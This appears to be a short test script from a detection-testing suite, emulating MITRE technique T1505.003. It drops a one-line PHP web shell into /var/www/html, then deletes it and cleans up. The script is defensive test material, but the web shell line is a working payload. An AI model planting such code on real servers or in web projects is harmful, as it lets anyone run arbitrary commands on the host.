#!/bin/sh
# case: T1505.003-php-in-docroot
# technique: Web shell dropped in the document root
# source: redcanaryco/atomic-red-team T1505.003; CrowdStrike/detection-container Webserver_Suspicious_Terminal_Spawn
# needs: sh
# expect: file persistence
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
N=; [ -d /var/www/html ] || { mkdir -p /var/www/html 2>/dev/null || exit 77; N=1; }; echo '<?php system($_GET["c"]); ?>' > /var/www/html/ho.php; rm -f /var/www/html/ho.php; [ -n "$N" ] && rmdir /var/www/html /var/www 2>/dev/null; true
exit 0
